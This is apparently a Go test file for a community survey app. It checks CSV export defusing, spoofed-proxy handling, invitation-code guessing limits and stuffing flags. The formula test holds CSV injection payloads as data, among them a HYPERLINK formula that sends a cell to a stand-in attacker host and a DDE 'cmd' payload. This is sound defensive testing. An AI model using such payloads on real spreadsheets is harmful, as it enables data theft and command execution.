package handlers_test

// Tests of the network-facing guarantees: client addresses and proxies,
// CSV formulas, per-survey address hashes, invitation code guessing,
// quality flags for untimed and phone-stuffed responses, and carrier-grade
// NAT pushes.

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	mrand "math/rand/v2"
	"net"
	"net/http"
	"net/http/cookiejar"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/minyi-survey/minyi/handlers"
	"github.com/minyi-survey/minyi/models"
	"github.com/minyi-survey/minyi/surveys/dedup"
	"github.com/minyi-survey/minyi/surveys/limit"
	"github.com/minyi-survey/minyi/surveys/live"
	"github.com/minyi-survey/minyi/surveys/questionnaire"
	"github.com/minyi-survey/minyi/surveys/surveystest"
)

// commentBody is a random answer to the demo survey with comment as its
// open comment.
func commentBody(t *testing.T, in *instance, seed uint64, comment string) []byte {
	t.Helper()
	p, err := in.Svc.Published(slug)
	if err != nil {
		t.Fatal(err)
	}
	sub := surveystest.RandomSubmission(mrand.New(mrand.NewPCG(seed, 7)), p.Compiled)
	c, _ := json.Marshal(comment)
	sub.Answers["comment"] = c
	b, err := json.Marshal(sub)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestCSVExportDefusesFormulas: a resident's comment that a spreadsheet
// would run as a formula is exported with a leading apostrophe.
func TestCSVExportDefusesFormulas(t *testing.T) {
	comments := []string{`=HYPERLINK("http://evil.example/?d="&A1,"点击领奖")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1", "\r=1", "路灯坏了"}
	for name, in := range instances(t, handlers.Config{}) {
		t.Run(name, func(t *testing.T) {
			for i, c := range comments {
				if r := post(t, resident(t, in), in.URL+"/api/v1/surveys/"+slug+"/responses", "application/json", commentBody(t, in, uint64(i), c)); r.Status != 201 {
					t.Fatalf("submit: %d %s", r.Status, r.Raw)
				}
			}
			p, _ := in.Svc.Published(slug)
			d := signIn(t, in, models.RoleDesigner)
			addMember(t, in, p.Survey.ID, d.name, models.MemberCollaborator)
			r := d.do(http.MethodGet, fmt.Sprintf("/api/v1/admin/surveys/%d/responses.csv", p.Survey.ID), nil)
			if r.Status != 200 {
				t.Fatalf("export: %d", r.Status)
			}
			rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Raw, []byte("\ufeff")))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := -1
			for i, h := range rows[0] {
				if h == "comment" {
					col = i
				}
			}
			got := map[string]bool{}
			for _, row := range rows[1:] {
				got[row[col]] = true
				for i, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("column %s starts with a formula character: %q", rows[0][i], cell)
					}
				}
			}
			for _, c := range comments {
				want := strings.TrimSpace(c) // the page's texts are trimmed on submission
				if c != "路灯坏了" {
					want = "'" + want
				}
				if !got[want] {
					t.Errorf("comment %q exported as something else than %q: %v", c, want, got)
				}
			}
		})
	}
}

// loopbackProxy trusts the test's own client as a reverse proxy.
func loopbackProxy(t *testing.T) []*net.IPNet {
	t.Helper()
	n, err := handlers.ParseTrustedProxies("127.0.0.1/32, ::1")
	if err != nil || len(n) != 2 {
		t.Fatalf("parse: %v %v", n, err)
	}
	return n
}

// submitFrom sends one new resident's answer with the given
// X-Forwarded-For ("" = none).
func submitFrom(t *testing.T, in *instance, xff string, seed uint64) reply {
	t.Helper()
	c := resident(t, in)
	req, _ := http.NewRequest(http.MethodPost, in.URL+"/api/v1/surveys/"+slug+"/responses", bytes.NewReader(randomBody(t, in, seed)))
	req.Header.Set("Content-Type", "application/json")
	if xff != "" {
		req.Header.Set("X-Forwarded-For", xff)
	}
	return do(t, c, req)
}

// TestSpoofedForwardedForIsIgnored: a client on loopback (or any private
// network) naming a new address in X-Forwarded-For for each submission
// stays one address for the per-address limit; only configured proxies are
// believed, and an IPv6 client is one /64.
func TestSpoofedForwardedForIsIgnored(t *testing.T) {
	// until429 sends n answers naming xff(i) and returns how many were 201.
	until429 := func(t *testing.T, in *instance, n int, xff func(i int) string) int {
		t.Helper()
		for i := range n {
			r := submitFrom(t, in, xff(i), uint64(i))
			if r.Status == http.StatusTooManyRequests {
				return i
			}
			if r.Status != http.StatusCreated {
				t.Fatalf("submission %d: %d %s", i, r.Status, r.Raw)
			}
		}
		return n
	}
	spoofed := func(i int) string { return fmt.Sprintf("198.51.100.%d", i+1) }
	t.Run("default: the direct peer only", func(t *testing.T) {
		in := start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{SubmitRate: 3})
		if ok := until429(t, in, 20, spoofed); ok == 20 {
			t.Fatal("20 submissions from loopback at 3/s, each naming another X-Forwarded-For: none refused")
		}
	})
	t.Run("a trusted proxy's clients are told apart", func(t *testing.T) {
		in := start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{SubmitRate: 3, TrustedProxies: loopbackProxy(t)})
		if ok := until429(t, in, 12, spoofed); ok != 12 {
			t.Fatalf("12 clients of a trusted proxy at 3/s each: refused after %d", ok)
		}
		// The nearest untrusted address counts, not what the client
		// itself wrote in front of it.
		if ok := until429(t, in, 12, func(i int) string { return spoofed(i) + ", 203.0.113.9" }); ok == 12 {
			t.Fatal("a client that prepends addresses to a trusted proxy's X-Forwarded-For escaped the limit")
		}
	})
	t.Run("IPv6: one /64 is one client", func(t *testing.T) {
		in := start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{SubmitRate: 3, TrustedProxies: loopbackProxy(t)})
		if ok := until429(t, in, 12, func(i int) string { return fmt.Sprintf("2001:db8:1:2::%x", i+1) }); ok == 12 {
			t.Fatal("12 addresses of one /64 at 3/s: none refused")
		}
		if ok := until429(t, in, 12, func(i int) string { return fmt.Sprintf("2001:db8:1:%x::1", i+10) }); ok != 12 {
			t.Fatalf("12 different /64s at 3/s each: refused after %d", ok)
		}
	})
}

// TestSecureCookieFromTrustedProxyOnly: X-Forwarded-Proto: https makes the
// cookies Secure only when a trusted proxy sent it.
func TestSecureCookieFromTrustedProxyOnly(t *testing.T) {
	for _, tc := range []struct {
		name    string
		proxies []*net.IPNet
		want    bool
	}{{"untrusted peer", nil, false}, {"trusted proxy", loopbackProxy(t), true}} {
		t.Run(tc.name, func(t *testing.T) {
			in := start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{TrustedProxies: tc.proxies})
			jar, _ := cookiejar.New(nil)
			req, _ := http.NewRequest(http.MethodGet, in.URL+"/s/"+slug, nil)
			req.Header.Set("X-Forwarded-Proto", "https")
			r := do(t, &http.Client{Jar: jar}, req)
			cookies := (&http.Response{Header: r.Header}).Cookies()
			if r.Status != 200 || len(cookies) == 0 {
				t.Fatalf("page: %d, %d cookies", r.Status, len(cookies))
			}
			if cookies[0].Secure != tc.want {
				t.Fatalf("respondent cookie Secure = %v with X-Forwarded-Proto: https from %s, want %v", cookies[0].Secure, tc.name, tc.want)
			}
		})
	}
}

// answer sends one new resident's answer to the survey slug as a client of
// the proxy at loopback naming xff ("" = none); edit may change the random
// submission first.
func answer(t *testing.T, in *instance, slug, xff string, seed uint64, edit func(*questionnaire.Submission)) reply {
	t.Helper()
	p, err := in.Svc.Published(slug)
	if err != nil {
		t.Fatal(err)
	}
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar}
	page, _ := http.NewRequest(http.MethodGet, in.URL+"/s/"+slug, nil)
	if r := do(t, c, page); r.Status != 200 {
		t.Fatalf("page %s: %d", slug, r.Status)
	}
	sub := surveystest.RandomSubmission(mrand.New(mrand.NewPCG(seed, 11)), p.Compiled)
	if edit != nil {
		edit(sub)
	}
	body, _ := json.Marshal(sub)
	req, _ := http.NewRequest(http.MethodPost, in.URL+"/api/v1/surveys/"+slug+"/responses", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if xff != "" {
		req.Header.Set("X-Forwarded-For", xff)
	}
	return do(t, c, req)
}

// storedResponses reads a survey's responses in the order they came.
func storedResponses(t *testing.T, in *instance, slug string) []models.Response {
	t.Helper()
	p, err := in.Svc.Published(slug)
	if err != nil {
		t.Fatal(err)
	}
	var rows []models.Response
	if err := in.Store.R.Where("survey_id = ?", p.Survey.ID).Order("id").Find(&rows).Error; err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestAddressHashIsPerSurvey: one client answering two surveys leaves two
// different address hashes, so their exports or tables cannot be joined
// on the address; within one survey the hash is stable.
func TestAddressHashIsPerSurvey(t *testing.T) {
	for name, in := range instances(t, handlers.Config{TrustedProxies: loopbackProxy(t)}) {
		t.Run(name, func(t *testing.T) {
			d := builtinDefinition(t)
			d.Slug = "second-2022"
			publish(t, in, d)
			for i, s := range []string{slug, slug, "second-2022"} {
				if r := answer(t, in, s, "203.0.113.5", uint64(i), nil); r.Status != 201 {
					t.Fatalf("answer %s: %d %s", s, r.Status, r.Raw)
				}
			}
			first, second := storedResponses(t, in, slug), storedResponses(t, in, "second-2022")
			if len(first) != 2 || len(second) != 1 || first[0].IPHash == "" {
				t.Fatalf("stored %d and %d responses, hash %q", len(first), len(second), first[0].IPHash)
			}
			if first[0].IPHash != first[1].IPHash {
				t.Error("one address hashed two ways within one survey: the quality flags could not compare")
			}
			if first[0].IPHash == second[0].IPHash {
				t.Error("one address has the same hash in two surveys: their rows can be joined on it")
			}
		})
	}
}

// TestUntimedSubmissionIsFlagged: a submission without started_at (or
// with one that cannot be true) cannot be checked for speed, so it is
// flagged "no timing" instead of passing the speeder check, and results
// count the reason.
func TestUntimedSubmissionIsFlagged(t *testing.T) {
	for name, in := range instances(t, handlers.Config{}) {
		t.Run(name, func(t *testing.T) {
			future := time.Now().Add(time.Hour)
			for i, edit := range []func(*questionnaire.Submission){
				nil, // started five minutes ago
				func(s *questionnaire.Submission) { s.StartedAt = nil },
				func(s *questionnaire.Submission) { s.StartedAt = &future },
			} {
				if r := answer(t, in, slug, "", uint64(i), edit); r.Status != 201 {
					t.Fatalf("answer %d: %d %s", i, r.Status, r.Raw)
				}
			}
			rows := storedResponses(t, in, slug)
			if len(rows) != 3 {
				t.Fatalf("%d rows", len(rows))
			}
			for i, r := range rows {
				untimed := strings.Contains(r.Flags, questionnaire.FlagNoTiming)
				if untimed != (i > 0) {
					t.Errorf("response %d: flags %q, want no_timing %v", i, r.Flags, i > 0)
				}
			}
			waitTallied(t, in, slug, 3)
			res := get(t, http.DefaultClient, in.URL+"/api/v1/surveys/"+slug+"/results")
			q, _ := res.Body["quality"].(map[string]any)
			reasons, _ := q["reasons"].(map[string]any)
			if reasons[questionnaire.FlagNoTiming] != float64(2) {
				t.Errorf("results quality reasons %v, want no_timing 2", reasons)
			}
		})
	}
}

// TestInvitationCodeGuessingIsSlowed: wrong invitation codes are counted
// per address and per survey; past the budget every code attempt, even a
// right one, gets 429 with Retry-After, while other addresses go on until
// the survey's own budget is spent.
func TestInvitationCodeGuessingIsSlowed(t *testing.T) {
	backends := map[string]func(t *testing.T) *instance{
		"sqlite+memory": func(t *testing.T) *instance {
			return start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{
				TrustedProxies: loopbackProxy(t), CodeFailsPerAddress: 5, CodeFailsPerSurvey: 8})
		},
	}
	if surveystest.Required() || surveystest.RedisConfigured() {
		backends["mysql+redis"] = func(t *testing.T) *instance {
			rdb := surveystest.Redis(t)
			p := surveystest.Prefix()
			return start(t, surveystest.MySQL(t), dedup.NewRedis(rdb, p+"dedup:"), live.NewRedis(rdb, p+"tally"), handlers.Config{
				TrustedProxies: loopbackProxy(t), CodeFailsPerAddress: 5, CodeFailsPerSurvey: 8,
				CodeFailures: limit.NewRedisFailures(rdb, p+"codefail:")})
		}
	}
	for name, mk := range backends {
		t.Run(name, func(t *testing.T) {
			in := mk(t)
			d := builtinDefinition(t)
			d.Slug, d.Dedup = "code-test", questionnaire.DedupToken
			sv := publish(t, in, d)
			issued, err := in.Svc.CreateTokens(sv.ID, 3, "")
			if err != nil {
				t.Fatal(err)
			}
			try := func(addr, code string, seed uint64) reply {
				t.Helper()
				return answer(t, in, "code-test", addr, seed, func(s *questionnaire.Submission) { s.Token = code })
			}
			wrong := func(i int) string { return fmt.Sprintf("ZZZZ%04d", i) }
			for i := range 5 {
				if r := try("203.0.113.20", wrong(i), uint64(i)); r.Status != http.StatusForbidden {
					t.Fatalf("wrong code %d: %d %s", i, r.Status, r.Raw)
				}
			}
			r := try("203.0.113.20", issued[0].Short, 10)
			if r.Status != http.StatusTooManyRequests || errorCode(t, r) != "rate_limited" || r.Header.Get("Retry-After") == "" || r.Header.Get("Retry-After") == "0" {
				t.Fatalf("a right code after 5 wrong ones from one address: %d %q %s, want 429 with Retry-After", r.Status, r.Header.Get("Retry-After"), r.Raw)
			}
			if r := try("198.51.100.30", issued[0].Short, 11); r.Status != http.StatusCreated {
				t.Fatalf("a right code from another address: %d %s", r.Status, r.Raw)
			}
			// Guessing from many addresses spends the survey's budget (8).
			for i := range 3 {
				if r := try(fmt.Sprintf("192.0.2.%d", i+1), wrong(100+i), uint64(20+i)); r.Status != http.StatusForbidden {
					t.Fatalf("wrong code from address %d: %d %s", i, r.Status, r.Raw)
				}
			}
			if r := try("198.51.100.31", issued[1].Short, 30); r.Status != http.StatusTooManyRequests {
				t.Fatalf("a right code once the survey's budget is spent: %d %s, want 429", r.Status, r.Raw)
			}
			// Link tokens (128 bits) are not guessable and skip the budget.
			if r := try("203.0.113.20", issued[2].Token, 32); r.Status != http.StatusCreated {
				t.Fatalf("a link token once the budgets are spent: %d %s, want 201", r.Status, r.Raw)
			}
			// Other surveys are untouched.
			if r := answer(t, in, slug, "203.0.113.20", 31, nil); r.Status != http.StatusCreated {
				t.Fatalf("a device-mode survey from the same address: %d %s", r.Status, r.Raw)
			}
		})
	}
}

// fakeClock is the time a replay has reached.
type fakeClock struct {
	mu sync.Mutex
	t  time.Time
}

func (f *fakeClock) Now() time.Time { f.mu.Lock(); defer f.mu.Unlock(); return f.t }

func (f *fakeClock) Set(t time.Time) { f.mu.Lock(); f.t = t; f.mu.Unlock() }

// deviceCookie is a valid respondent cookie for the device id made from
// n, as the page would have been given it.
func deviceCookie(n int) string {
	id := fmt.Sprintf("dev%019d", n)
	m := hmac.New(sha256.New, surveystest.Secret)
	m.Write([]byte("respondent:" + id))
	return "minyi_rid=" + id + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

// replayed is one resident's submission in a replay.
type replayed struct {
	at     time.Time
	addr   string
	device int
	tries  int
}

// replay sends the submissions in time order on the app's clock, as
// clients of a trusted proxy; a 429 is sent again after its Retry-After,
// as the page does. It returns how many 429s there were and the flags of
// each accepted response.
func replay(t *testing.T, in *instance, clock *fakeClock, subs []replayed, edit func(i int, s *questionnaire.Submission)) (refused int, flags []string) {
	t.Helper()
	p, err := in.Svc.Published(slug)
	if err != nil {
		t.Fatal(err)
	}
	queue := slices.Clone(subs)
	for len(queue) > 0 {
		slices.SortStableFunc(queue, func(a, b replayed) int { return a.at.Compare(b.at) })
		s := queue[0]
		queue = queue[1:]
		clock.Set(s.at)
		sub := surveystest.RandomSubmission(mrand.New(mrand.NewPCG(uint64(s.device), 5)), p.Compiled)
		started := s.at.Add(-time.Duration(3+s.device%6) * time.Minute)
		sub.StartedAt = &started
		if edit != nil {
			edit(s.device, sub)
		}
		body, _ := json.Marshal(sub)
		req, _ := http.NewRequest(http.MethodPost, in.URL+"/api/v1/surveys/"+slug+"/responses", bytes.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("X-Forwarded-For", s.addr)
		if s.device >= 0 {
			req.Header.Set("Cookie", deviceCookie(s.device))
		}
		r := do(t, http.DefaultClient, req)
		switch r.Status {
		case http.StatusCreated:
		case http.StatusTooManyRequests:
			refused++
			wait, _ := strconv.Atoi(r.Header.Get("Retry-After"))
			s.at, s.tries = s.at.Add(time.Duration(max(wait, 1))*time.Second), s.tries+1
			if s.tries > 5 {
				t.Fatalf("resident %d refused 5 times", s.device)
			}
			queue = append(queue, s)
			continue
		default:
			t.Fatalf("resident %d: %d %s", s.device, r.Status, r.Raw)
		}
	}
	for _, r := range storedResponses(t, in, slug) {
		flags = append(flags, r.Flags)
	}
	return refused, flags
}

// replayInstances are an app per backend whose clock and rate limiter
// follow clock, with the default per-address limit.
func replayInstances(t *testing.T, clock *fakeClock) map[string]*instance {
	t.Helper()
	cfg := handlers.Config{TrustedProxies: loopbackProxy(t), SubmitRate: handlers.DefaultSubmitRate, Clock: clock.Now}
	mem := cfg
	mem.Limiter = limit.NewMemoryClock(clock.Now)
	out := map[string]*instance{"sqlite+memory": start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), mem)}
	if surveystest.Required() || surveystest.MySQLConfigured() {
		rdb := surveystest.Redis(t)
		p := surveystest.Prefix()
		red := cfg
		red.Limiter = limit.NewRedisClock(rdb, p+"rate:", clock.Now)
		out["mysql+redis"] = start(t, surveystest.MySQL(t), dedup.NewRedis(rdb, p+"dedup:"), live.NewRedis(rdb, p+"tally"), red)
	}
	return out
}

func countFlag(flags []string, flag string) int {
	n := 0
	for _, f := range flags {
		if slices.Contains(strings.Split(f, ","), flag) {
			n++
		}
	}
	return n
}

// TestCGNATPushIsNeitherFlaggedNorRefused replays a WeChat push to a
// county: 2,000 residents answer within 2 minutes, most in the first
// half minute, from 5 carrier-grade NAT addresses in two /24s carrying
// 35, 25, 20, 12 and 8 % of them. With the default per-address limit no
// answer is refused, and almost none is flagged as a shared address.
func TestCGNATPushIsNeitherFlaggedNorRefused(t *testing.T) {
	addrs := []string{"223.104.3.17", "223.104.3.90", "223.104.3.151", "117.136.40.8", "117.136.40.66"}
	cum := []float64{0.35, 0.60, 0.80, 0.92, 1}
	clock := &fakeClock{}
	for name, in := range replayInstances(t, clock) {
		t.Run(name, func(t *testing.T) {
			start := time.Now().Truncate(time.Minute).Add(time.Minute)
			rng := mrand.New(mrand.NewPCG(2026, 12))
			subs := make([]replayed, 2000)
			for i := range subs {
				// Arrivals decay from the push (mean 30 s), cut at 2 minutes.
				at := time.Duration(rng.ExpFloat64() * float64(30*time.Second))
				for at >= 2*time.Minute {
					at = time.Duration(rng.ExpFloat64() * float64(30*time.Second))
				}
				k, _ := slices.BinarySearch(cum, rng.Float64())
				subs[i] = replayed{at: start.Add(at), addr: addrs[k], device: i}
			}
			perSecond := map[string]int{}
			peak := 0
			for _, s := range subs {
				k := s.addr + s.at.Truncate(time.Second).String()
				perSecond[k]++
				peak = max(peak, perSecond[k])
			}
			refused, flags := replay(t, in, clock, subs, nil)
			shared := countFlag(flags, questionnaire.FlagSharedAddress)
			t.Logf("%d accepted, %d refused with 429 (then retried), %d flagged shared_address; busiest address-second %d", len(flags), refused, shared, peak)
			if len(flags) != 2000 {
				t.Fatalf("%d of 2000 answers stored", len(flags))
			}
			if refused > 0 {
				t.Errorf("%d answers of the push refused with 429 at the default limit of %d/s", refused, handlers.DefaultSubmitRate)
			}
			if shared > 20 {
				t.Errorf("%d of 2000 honest answers flagged shared_address, want at most 1%%", shared)
			}
		})
	}
}

// TestBallotStuffingFromOneAddressIsFlagged: one client sending 200
// answers from one address to a quiet survey, under the rate limit, has
// all but its first few flagged.
func TestBallotStuffingFromOneAddressIsFlagged(t *testing.T) {
	clock := &fakeClock{}
	for name, in := range replayInstances(t, clock) {
		t.Run(name, func(t *testing.T) {
			start := time.Now().Add(time.Hour)
			var subs []replayed
			for i := range 20 { // the survey's own traffic: a resident every 30 s
				subs = append(subs, replayed{at: start.Add(time.Duration(i) * 30 * time.Second), addr: fmt.Sprintf("198.51.%d.9", i), device: 10_000 + i})
			}
			for i := range 200 {
				subs = append(subs, replayed{at: start.Add(5*time.Minute + time.Duration(i)*100*time.Millisecond), addr: "203.0.113.66", device: i})
			}
			refused, flags := replay(t, in, clock, subs, nil)
			shared := countFlag(flags, questionnaire.FlagSharedAddress)
			t.Logf("%d accepted, %d refused, %d flagged shared_address", len(flags), refused, shared)
			if shared < 170 {
				t.Fatalf("%d of 200 answers stuffed from one address in 20 s flagged shared_address, want at least 170", shared)
			}
		})
	}
}

// TestPhoneStuffingIsFlagged: phone mode takes any well-formed number, so
// a client typing many made-up numbers gets them accepted, but flagged
// many_phones: from the third number on one device, and from the fifth
// from one address that is most of the survey's recent traffic; residents
// typing their own number are not.
func TestPhoneStuffingIsFlagged(t *testing.T) {
	for name, in := range instances(t, handlers.Config{TrustedProxies: loopbackProxy(t)}) {
		t.Run(name, func(t *testing.T) {
			for _, s := range []string{"phone-device", "phone-curl", "phone-honest"} {
				d := builtinDefinition(t)
				d.Slug, d.Dedup = s, questionnaire.DedupPhone
				publish(t, in, d)
			}
			number := func(i int) string { return fmt.Sprintf("139%08d", 10_000+i) }
			send := func(c *http.Client, survey, addr string, i int) {
				t.Helper()
				p, _ := in.Svc.Published(survey)
				sub := surveystest.RandomSubmission(mrand.New(mrand.NewPCG(uint64(i), 3)), p.Compiled)
				sub.Phone = number(i)
				body, _ := json.Marshal(sub)
				req, _ := http.NewRequest(http.MethodPost, in.URL+"/api/v1/surveys/"+survey+"/responses", bytes.NewReader(body))
				req.Header.Set("Content-Type", "application/json")
				req.Header.Set("X-Forwarded-For", addr)
				if r := do(t, c, req); r.Status != http.StatusCreated {
					t.Fatalf("%s number %d: %d %s", survey, i, r.Status, r.Raw)
				}
			}
			cases := []struct {
				survey  string
				min     int // at least this many flagged
				max     int
				sending func(i int) (*http.Client, string)
			}{
				{"phone-device", 13, 13, func() func(int) (*http.Client, string) {
					jar, _ := cookiejar.New(nil)
					c := &http.Client{Jar: jar}
					get(t, c, in.URL+"/s/phone-device")
					// One browser, a new address each time (a phone moving
					// between cells): the device gives it away.
					return func(i int) (*http.Client, string) { return c, fmt.Sprintf("198.51.100.%d", i+1) }
				}()},
				{"phone-curl", 11, 11, func(int) (*http.Client, string) { return &http.Client{}, "203.0.113.41" }},
				{"phone-honest", 0, 0, func(i int) (*http.Client, string) {
					jar, _ := cookiejar.New(nil)
					return &http.Client{Jar: jar}, fmt.Sprintf("192.0.2.%d", i+1)
				}},
			}
			for _, tc := range cases {
				for i := range 15 {
					c, addr := tc.sending(i)
					send(c, tc.survey, addr, i)
				}
				got := countFlag(flagsOf(t, in, tc.survey), questionnaire.FlagManyPhones)
				if got < tc.min || got > tc.max {
					t.Errorf("%s: %d of 15 numbers flagged many_phones, want %d-%d", tc.survey, got, tc.min, tc.max)
				}
			}
		})
	}
}

// flagsOf lists the flags of a survey's stored responses.
func flagsOf(t *testing.T, in *instance, survey string) []string {
	t.Helper()
	var out []string
	for _, r := range storedResponses(t, in, survey) {
		out = append(out, r.Flags)
	}
	return out
}

// TestDesignerSaysPhonesAreUnverified: the designer says next to the
// phone mode that numbers are not verified.
func TestDesignerSaysPhonesAreUnverified(t *testing.T) {
	in := start(t, surveystest.SQLite(t), dedup.NewMemory(), live.NewMemory(), handlers.Config{})
	p, _ := in.Svc.Published(slug)
	d := signIn(t, in, models.RoleDesigner)
	addMember(t, in, p.Survey.ID, d.name, models.MemberCollaborator)
	r := d.do(http.MethodGet, fmt.Sprintf("/admin/surveys/%d", p.Survey.ID), nil)
	page := string(r.Raw)
	if r.Status != 200 || !strings.Contains(page, `id="dedup-phone-note"`) || !strings.Contains(page, "不核实号码") || !strings.Contains(page, "does not verify numbers") {
		t.Fatalf("designer page %d without the phone-mode note", r.Status)
	}
}
